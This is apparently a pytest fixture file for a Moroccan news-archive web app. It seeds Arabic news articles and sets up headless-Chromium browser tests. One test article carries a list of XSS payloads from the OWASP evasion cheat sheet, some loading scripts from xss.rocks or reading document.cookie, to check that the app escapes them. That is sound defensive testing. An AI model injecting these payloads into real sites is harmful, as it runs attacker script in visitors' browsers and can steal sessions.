"""A small archive for the web tests: four outlets, a story told by three of them (one a repost), a thread
with dated events, images, and articles whose title and body carry XSS payloads."""

from __future__ import annotations

import hashlib
import json
import os
import socket
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient

from marsad.store import reports
from marsad.store.db import Store
from marsad.web import create_app

SOURCES = [
    (1, "hespress.com", "هسبريس", "Hespress", "https://www.hespress.com/", 0),
    (2, "2m.ma", "دوزيم", "2M", "https://2m.ma/", 0),
    (3, "maghress.com", "مغرس", "Maghress", "https://www.maghress.com/", 1),
    (4, "alarabiya.net", "العربية", "Al Arabiya", "https://www.alarabiya.net/", 0),
]

# (id, source, url, title, body paragraphs, published, categories, duplicate_of, original_outlet,
#  original_url, story, images)
ARTICLES = [
    (
        1,
        2,
        "https://2m.ma/ar/news/forum-newyork",
        "بوريطة يدعو في نيويورك إلى تعاون دولي أوثق لمكافحة الإرهاب",
        [
            "دعا وزير الخارجية ناصر بوريطة، يوم الأربعاء بنيويورك، إلى تكثيف التعاون الدولي لمواجهة الإرهاب.",
            "وجاءت كلمته خلال الاجتماع الوزاري الثامن للمنتدى العالمي لمكافحة الإرهاب الذي يرأسه المغرب وهولندا.",
        ],
        "2017-09-21T10:30:00+01:00",
        ["politics"],
        None,
        None,
        None,
        1,
        [{"url": "https://2m.ma/img/forum.jpg", "caption": "جانب من الاجتماع الوزاري"}],
    ),
    (
        2,
        3,
        "https://www.maghress.com/2m/123",
        "بوريطة يدعو في نيويورك إلى تعاون دولي أوثق لمكافحة الإرهاب",
        [
            "دعا وزير الخارجية ناصر بوريطة، يوم الأربعاء بنيويورك، إلى تكثيف التعاون الدولي لمواجهة الإرهاب.",
            "وجاءت كلمته خلال الاجتماع الوزاري الثامن للمنتدى العالمي لمكافحة الإرهاب الذي يرأسه المغرب وهولندا.",
        ],
        "2017-09-21T12:00:00+01:00",
        ["politics"],
        1,
        "دوزيم",
        "https://2m.ma/ar/news/forum-newyork",
        1,
        [],
    ),
    (
        3,
        1,
        "https://www.hespress.com/politique/forum-2017",
        "المغرب وهولندا يواصلان رئاسة المنتدى العالمي لمكافحة الإرهاب",
        ["أعيد اختيار المغرب وهولندا لرئاسة المنتدى العالمي لمكافحة الإرهاب لسنتين إضافيتين."],
        "2017-09-21T15:00:00+01:00",
        ["politics"],
        None,
        None,
        None,
        1,
        [],
    ),
    (
        4,
        1,
        "https://www.hespress.com/politique/rabat-initiative",
        "الرباط تحتضن اجتماع المبادرة المغربية الأمريكية حول الإرهاب الداخلي",
        [
            "احتضنت الرباط اجتماعا للمبادرة التي يقودها المغرب والولايات المتحدة حول المقاتلين المحليين.",
            "وستعرض الوثيقة النهائية للممارسات الجيدة في الاجتماع الوزاري المقبل بنيويورك في شتنبر 2018.",
        ],
        "2018-04-12T09:00:00+01:00",
        ["politics"],
        None,
        None,
        None,
        2,
        [],
    ),
    (
        5,
        4,
        "https://www.alarabiya.net/sport/2018/05/01/final",
        "الرجاء يفوز بالكأس بعد مباراة مثيرة",
        ["فاز فريق الرجاء الرياضي بالكأس بعد مباراة مثيرة انتهت بركلات الترجيح."],
        "2018-05-01T20:00:00+00:00",
        ["sport"],
        None,
        None,
        None,
        None,
        [],
    ),
    (
        6,
        4,
        "https://www.alarabiya.net/economy/2018/05/02/fuel",
        "تراجع أسعار المحروقات في المغرب",
        ["تراجعت أسعار المحروقات في محطات الوقود المغربية هذا الأسبوع."],
        "2018-05-02T08:00:00+00:00",
        ["economy"],
        None,
        None,
        None,
        None,
        [],
    ),
    (
        7,
        1,
        "https://www.hespress.com/economy/banks",
        "ودائع الأسر المغربية لدى البنوك ترتفع",
        ["ارتفعت ودائع الأسر المغربية لدى البنوك خلال الأشهر الماضية."],
        "2018-05-03T11:00:00+01:00",
        ["economy"],
        None,
        None,
        None,
        None,
        [],
    ),
]

# Titles and bodies from the OWASP XSS filter evasion cheat sheet.
XSS_PAYLOADS = [
    "<script>alert('XSS')</script>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert(&quot;XSS&quot;)>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<img src=x onerror=alert(1)>",
    "<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>",
    "<BODY ONLOAD=alert('XSS')>",
    "<svg/onload=alert('XSS')>",
    '<a href="javascript:alert(1)">اضغط</a>',
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    '"><script>alert(document.cookie)</script>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
    "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
    "';alert(String.fromCharCode(88,83,83))//';alert(String.fromCharCode(88,83,83))//\";",
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
]
XSS_ID = 100


def insert_article(store: Store, row: tuple) -> None:
    (aid, source, url, title, body, published, cats, dup, orig_outlet, orig_url, story, images) = row
    text = "\n".join(body)
    store.conn.execute(
        "INSERT INTO article(id, url, source_id, title, body, published, precision, categories, duplicate_of,"
        " original_outlet, original_url, story_id, images, content_hash, author)"
        " VALUES (?, ?, ?, ?, ?, ?, 'minute', ?, ?, ?, ?, ?, ?, ?, ?)",
        (
            aid,
            url,
            source,
            title,
            text,
            published,
            json.dumps(cats, ensure_ascii=False),
            dup,
            orig_outlet,
            orig_url,
            story,
            json.dumps(images, ensure_ascii=False),
            hashlib.sha256((title + text).encode()).hexdigest(),
            "و.م.ع" if aid == 1 else None,
        ),
    )


def build_archive(path: Path) -> Path:
    """The test archive in a fresh database at `path`."""
    with Store(path) as store, store.transaction() as conn:
        for sid, key, name, latin, home, aggregator in SOURCES:
            conn.execute(
                "INSERT INTO source(id, key, name, name_latin, home_url, is_aggregator) VALUES (?, ?, ?, ?, ?, ?)",
                (sid, key, name, latin, home, aggregator),
            )
        for row in ARTICLES:
            insert_article(store, row)
        insert_article(
            store,
            (
                XSS_ID,
                1,
                "javascript:alert('url')",
                " ".join(XSS_PAYLOADS[:6]),
                XSS_PAYLOADS,
                "2018-05-04T10:00:00+00:00",
                ["<script>alert(1)</script>"],
                None,
                "<b onmouseover=alert(1)>x</b>",
                "javascript:alert('orig')",
                None,
                [{"url": "javascript:alert('img')", "caption": "<script>alert(2)</script>"}],
            ),
        )
        conn.execute(
            "INSERT INTO thread(id, title, first_seen, last_seen, story_count)"
            " VALUES (1, 'المنتدى العالمي لمكافحة الإرهاب', '2017-09-21', '2018-04-12', 2)"
        )
        conn.execute(
            "INSERT INTO story(id, title, representative_id, first_seen, last_seen, thread_id, article_count,"
            " outlet_count, outlets) VALUES (1, 'بوريطة يدعو في نيويورك إلى تعاون دولي أوثق لمكافحة الإرهاب',"
            " 1, '2017-09-21', '2017-09-21', 1, 3, 3, '[\"دوزيم\", \"مغرس\", \"هسبريس\"]')"
        )
        conn.execute(
            "INSERT INTO story(id, title, representative_id, first_seen, last_seen, thread_id, article_count,"
            " outlet_count, outlets) VALUES (2, 'الرباط تحتضن اجتماع المبادرة المغربية الأمريكية حول الإرهاب"
            " الداخلي', 4, '2018-04-12', '2018-04-12', 1, 1, 1, '[\"هسبريس\"]')"
        )
        events = [
            (
                1,
                1,
                1,
                1,
                "2017-09-20",
                "day",
                "انعقد الاجتماع الوزاري الثامن للمنتدى العالمي لمكافحة الإرهاب.",
            ),
            (2, 1, 2, 4, "2018-04-11", "day", "انعقد اجتماع المبادرة المغربية الأمريكية بالرباط."),
            (3, 1, 2, 4, "2018-09", "month", "الاجتماع الوزاري المقبل للمنتدى بنيويورك."),
        ]
        for eid, thread, story, article, date, precision, text in events:
            conn.execute(
                "INSERT INTO event(id, thread_id, story_id, article_id, date, precision, text)"
                " VALUES (?, ?, ?, ?, ?, ?, ?)",
                (eid, thread, story, article, date, precision, text),
            )
    return path


@pytest.fixture()
def archive(tmp_path: Path) -> Path:
    return build_archive(tmp_path / "reader.db")


ADMIN_PASSWORD = "correct horse battery"


@pytest.fixture()
def archive_db(tmp_path: Path) -> Path:
    """The test archive with the operator's password (the account "admin")."""
    path = build_archive(tmp_path / "operator.db")
    with Store(path) as store:
        reports.set_admin_password(store, ADMIN_PASSWORD)
    return path


@pytest.fixture()
def app(archive: Path):
    return create_app(archive, report_threshold=3)


def browser_client(app, agent: str = "test-agent/1", address: str = "testclient") -> TestClient:
    """A browser with that User-Agent at that client address (the TestClient's own by default)."""
    return TestClient(app, headers={"user-agent": agent}, follow_redirects=False, client=(address, 50000))


@pytest.fixture()
def client(app) -> TestClient:
    return browser_client(app)


@pytest.fixture()
def indexed_client(archive: Path) -> TestClient:
    from marsad.search import reindex

    with Store(archive) as store:
        reindex(store)
    return browser_client(create_app(archive, report_threshold=3))


def free_port() -> int:
    """A loopback port free at the time of asking."""
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return int(sock.getsockname()[1])


@contextmanager
def served(app) -> Iterator[str]:
    """`app` served by uvicorn on a free loopback port in a thread; yields its base URL."""
    import uvicorn

    port = free_port()
    server = uvicorn.Server(uvicorn.Config(app, host="127.0.0.1", port=port, log_level="warning"))
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    deadline = time.monotonic() + 15
    while not server.started:
        if time.monotonic() > deadline or not thread.is_alive():
            raise RuntimeError("uvicorn did not start")
        time.sleep(0.05)
    try:
        yield f"http://127.0.0.1:{port}"
    finally:
        server.should_exit = True
        thread.join(10)


# --- headless Chromium -------------------------------------------------------------------------------------
# Debian's chromium at /usr/bin/chromium, driven by Playwright's Python package (never `playwright install`);
# screenshots go to artifacts/screenshots/. Skipped when chromium is missing, a failure under CI=true.

CHROMIUM = Path("/usr/bin/chromium")
ARGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]
SHOTS = Path(__file__).resolve().parents[2] / "artifacts" / "screenshots"
PHONE = {"width": 390, "height": 844}
DESKTOP = {"width": 1280, "height": 900}


def require_chromium() -> None:
    if CHROMIUM.exists():
        return
    message = f"{CHROMIUM} is missing: apt-get install chromium to run the browser tests"
    if os.environ.get("CI") == "true":
        pytest.fail(message)
    pytest.skip(message)


@contextmanager
def launched() -> Iterator[Any]:
    """Debian's chromium, headless, driven by Playwright (skipped when it is missing, failed under CI)."""
    require_chromium()
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        chromium = playwright.chromium.launch(executable_path=str(CHROMIUM), args=ARGS)
        try:
            yield chromium
        finally:
            chromium.close()


def shot(page, name: str, full_page: bool = True) -> None:
    SHOTS.mkdir(parents=True, exist_ok=True)
    page.screenshot(path=str(SHOTS / f"{name}.png"), full_page=full_page)


def no_overlap(page, selector: str) -> None:
    """The boxes matched by `selector` do not overlap one another."""
    boxes = [b for b in (el.bounding_box() for el in page.query_selector_all(selector)) if b]
    for i, a in enumerate(boxes):
        for b in boxes[i + 1 :]:
            apart = (
                a["x"] + a["width"] <= b["x"] + 1
                or b["x"] + b["width"] <= a["x"] + 1
                or a["y"] + a["height"] <= b["y"] + 1
                or b["y"] + b["height"] <= a["y"] + 1
            )
            assert apart, f"{selector}: {a} overlaps {b}"


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    """One headless Chromium for a module's tests."""
    with launched() as chromium:
        yield chromium


@pytest.fixture(scope="module")
def demo_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The bundled demo corpus, ingested, linked and indexed by marsad.ingest (once a module)."""
    from marsad.demo import ingest_targets
    from marsad.ingest import ingest

    path = tmp_path_factory.mktemp("demo") / "demo.db"
    with Store(path) as store:
        report = ingest(ingest_targets(), store, progress=False)
        assert report.failed == 0
    return path


@pytest.fixture(scope="module")
def server(demo_db: Path) -> Iterator[str]:
    """The demo archive's reader served by uvicorn on a free loopback port, in a thread (a module may serve
    its own archive under this name)."""
    require_chromium()
    # the test's loopback plays a trusted reverse proxy, so each browser context can be another network
    with served(create_app(demo_db, report_threshold=3, trusted_proxies=["127.0.0.1/32"])) as base:
        yield base


@pytest.fixture(autouse=True)
def _on_both_backends(both_backends: str) -> str:
    """Every test here runs on SQLite and on PostgreSQL (tests/conftest.py `backend`)."""
    return both_backends
